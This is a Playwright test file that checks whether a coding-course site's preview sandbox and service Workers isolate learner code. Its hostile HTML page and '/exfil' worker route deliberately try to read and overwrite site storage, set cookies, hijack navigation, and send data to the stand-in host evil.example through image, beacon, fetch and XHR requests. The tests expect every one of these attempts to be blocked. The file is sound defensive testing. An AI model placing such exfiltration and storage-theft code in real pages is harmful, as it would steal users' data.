// Learner HTML and code don't get the site's privileges (issue 20). Through /dev/sandbox-engine/:
// - an HTML answer shown in the preview (sandboxed frame at an opaque origin, its own CSP) cannot
//   read or overwrite the site's localStorage or IndexedDB, navigate the top page, or send
//   anything to another origin; Swagger UI at /docs still renders and "Try it out" works;
// - a service's Worker cannot open the site's IndexedDB and cannot fetch other origins (CSP of the
//   worker runtime), and says why in words a learner can act on.
import { expect, test, type Page } from '@playwright/test';

const EVIL = 'https://evil.example';

// Starting a service and loading Swagger UI (1.4 MB of script through the bridge) on a busy machine.
test.describe.configure({ timeout: 90_000 });

async function openBench(page: Page) {
  await page.goto('/dev/sandbox-engine/');
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  await page.evaluate(async () => {
    const w = window as unknown as Record<string, any>;
    w.engine = await w.sandboxEngineTest.load();
  });
}

/** Every request that reaches evil.example (answered, so a leak would be visible as data). */
async function watchEvil(page: Page): Promise<string[]> {
  const hits: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    hits.push(route.request().url());
    return route.fulfill({ status: 200, body: 'stolen', headers: { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' } });
  });
  return hits;
}

/** Adds routes to the fixture's products-service (its app.ts), then starts it. */
async function startWithRoutes(page: Page, routes: string) {
  await page.evaluate(async (extra) => {
    const engine = (window as any).engine;
    const path = 'products-service/src/app.ts';
    const source: string = await engine.readFile(path);
    const marker = "app.get('/health'";
    if (!source.includes(marker)) throw new Error('fixture changed: no /health route');
    await engine.writeFile(path, source.replace(marker, `${extra}\n  ${marker}`));
    await engine.start('products-service');
  }, routes);
}

const HOSTILE_PAGE = `<!doctype html><html><head><title>hostil</title></head><body><pre id="out">...</pre><script>
    const results = {};
    const attempt = (name, fn) => { try { results[name] = 'ok:' + String(fn()); } catch (error) { results[name] = 'blocked:' + error.name; } };
    attempt('readProgress', () => localStorage.getItem('foodly-canary'));
    attempt('writeProgress', () => { localStorage.setItem('foodly-canary', 'overwritten'); return 'written'; });
    attempt('indexedDB', () => { const request = indexedDB.open('foodly-canary-db'); return typeof request; });
    attempt('cookie', () => document.cookie = 'stolen=1');
    attempt('topNavigation', () => { top.location.href = '/?hijacked'; return 'navigated'; });
    attempt('image', () => { new Image().src = '${EVIL}/image'; return 'sent'; });
    attempt('beacon', () => navigator.sendBeacon('${EVIL}/beacon', 'x'));
    fetch('${EVIL}/fetch').then((r) => r.text()).then((t) => 'ok:' + t, (e) => 'blocked:' + e.message).then((outcome) => {
      results.fetch = outcome;
      return fetch('/products/p-1').then((r) => r.json()).then((j) => 'ok:' + j.id, (e) => 'blocked:' + e.message);
    }).then((own) => {
      results.ownService = own;
      document.getElementById('out').textContent = JSON.stringify(results);
    });
  </script></body></html>`;
const HOSTILE_HTML = `app.get('/hostile', (c) => c.html(${JSON.stringify(HOSTILE_PAGE)}));`;

test.describe('preview isolation', () => {
  test('a hostile HTML answer cannot read or overwrite site storage, navigate top or reach another origin', async ({ page }) => {
    const evil = await watchEvil(page);
    await openBench(page);
    const benchUrl = page.url();
    await page.evaluate(async () => {
      localStorage.setItem('foodly-canary', 'progress');
      await new Promise<void>((resolve, reject) => {
        const request = indexedDB.open('foodly-canary-db', 1);
        request.onupgradeneeded = () => request.result.createObjectStore('labs');
        request.onsuccess = () => {
          request.result.close();
          resolve();
        };
        request.onerror = () => reject(request.error);
      });
    });
    await startWithRoutes(page, HOSTILE_HTML);
    const url = await page.evaluate(() => (window as any).engine.openPreview('products-service', '/hostile'));
    await page.evaluate((src) => (window as any).sandboxEngineTest.openPreviewFrame(src, 'Vista previa hostil'), url);
    const out = page.frameLocator('iframe[title="Vista previa hostil"]').locator('#out');
    await expect(out).not.toHaveText('...', { timeout: 15_000 });
    const results = JSON.parse((await out.textContent())!) as Record<string, string>;

    expect(results.readProgress).toBe('blocked:SecurityError');
    expect(results.writeProgress).toBe('blocked:SecurityError');
    expect(results.indexedDB).toBe('blocked:SecurityError');
    expect(results.cookie).toBe('blocked:SecurityError');
    expect(results.fetch).toMatch(/^blocked:La vista previa solo puede llamar a su servicio/);
    // Its own service answers through the bridge.
    expect(results.ownService).toBe('ok:p-1');

    await page.waitForTimeout(500);
    expect(page.url()).toBe(benchUrl);
    expect(await page.evaluate(() => localStorage.getItem('foodly-canary'))).toBe('progress');
    expect(await page.evaluate(() => document.cookie)).not.toContain('stolen');
    expect(evil).toEqual([]);
  });

  test('the preview frame is sandboxed without allow-same-origin and carries its own CSP', async ({ page, request }) => {
    await openBench(page);
    await page.evaluate(() => (window as any).engine.start('products-service'));
    const url = await page.evaluate(() => (window as any).engine.openPreview('products-service', '/docs'));
    await page.evaluate((src) => (window as any).sandboxEngineTest.openPreviewFrame(src), url);
    const sandbox = await page.locator('iframe[title="Vista previa"]').getAttribute('sandbox');
    expect(sandbox?.split(/\s+/).sort()).toEqual(['allow-forms', 'allow-scripts']);
    const response = await request.get(url.split('#')[0]);
    const csp = response.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("connect-src 'none'");
    expect(csp).toContain("default-src 'none'");
  });

  test('Swagger UI at /docs renders in the sandboxed preview and "Try it out" reaches the service', async ({ page }) => {
    await openBench(page);
    await page.evaluate(() => (window as any).engine.start('products-service'));
    const url = await page.evaluate(() => (window as any).engine.openPreview('products-service', '/docs'));
    await page.evaluate((src) => (window as any).sandboxEngineTest.openPreviewFrame(src), url);
    const frame = page.frameLocator('iframe[title="Vista previa"]');
    await expect(frame.locator('.swagger-ui .info .title')).toContainText('products-service', { timeout: 60_000 });
    const operation = frame.locator('.opblock', { has: frame.locator('.opblock-summary-path', { hasText: '/products/{id}' }) }).first();
    await operation.locator('.opblock-summary').click();
    await operation.getByRole('button', { name: 'Try it out' }).click();
    await operation.locator('input[placeholder="id"]').fill('p-1');
    await operation.getByRole('button', { name: 'Execute' }).click();
    await expect(operation.locator('.live-responses-table tbody .response-col_status').first()).toHaveText('200', { timeout: 10_000 });
    await expect(operation.locator('.live-responses-table tbody .response-col_description').first()).toContainText('Pizza margarita');
  });
});

test.describe('service workers', () => {
  test("a service cannot fetch another origin (CSP of the runtime) nor open the site's IndexedDB", async ({ page }) => {
    const evil = await watchEvil(page);
    await openBench(page);
    await startWithRoutes(
      page,
      String.raw`
  app.get('/exfil', async (c) => {
    const outcome = async (fn) => { try { const r = await fn(); return 'ok:' + (await r.text()); } catch (error) { return 'blocked:' + error.message; } };
    // The browser reports what the worker's CSP refused (a DNS failure would report nothing).
    const refused = [];
    self.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective + ' ' + event.blockedURI));
    const result = {
      fetch: await outcome(() => fetch('${EVIL}/fetch')),
      realFetch: await outcome(() => globalThis.__sandboxRuntime.realFetch('${EVIL}/real')),
      xhr: await new Promise((resolve) => { try { const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/xhr'); x.onload = () => resolve('ok:' + x.responseText); x.onerror = () => resolve('blocked:error'); x.send(); } catch (error) { resolve('blocked:' + error.name); } }),
      indexedDB: typeof globalThis.indexedDB,
      indexedDBFromPrototype: String(Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)) ?? {}, 'indexedDB')),
      caches: typeof globalThis.caches,
      broadcastChannel: typeof globalThis.BroadcastChannel,
      nestedWorker: typeof globalThis.Worker,
      locks: typeof navigator.locks,
    };
    await new Promise((resolve) => setTimeout(resolve, 100));
    return c.json({ ...result, refused });
  });`,
    );
    const response = await page.evaluate(() => (window as any).engine.request({ service: 'products-service', method: 'GET', path: '/exfil' }));
    expect(response.status).toBe(200);
    const body = JSON.parse(response.text) as Record<string, string> & { refused: string[] };
    expect(body.fetch).toContain('el sandbox del navegador no deja que un servicio llame a otro origen (https://evil.example)');
    expect(body.realFetch).toMatch(/^blocked:/);
    expect(body.xhr).toMatch(/^blocked:/);
    // The runtime's CSP refused both requests that bypass the patched fetch.
    expect(body.refused).toEqual(expect.arrayContaining([`connect-src ${EVIL}/real`, `connect-src ${EVIL}/xhr`]));
    expect(body).toMatchObject({ indexedDB: 'undefined', indexedDBFromPrototype: 'undefined', caches: 'undefined', broadcastChannel: 'undefined', nestedWorker: 'undefined', locks: 'undefined' });
    expect(evil).toEqual([]);
  });
});
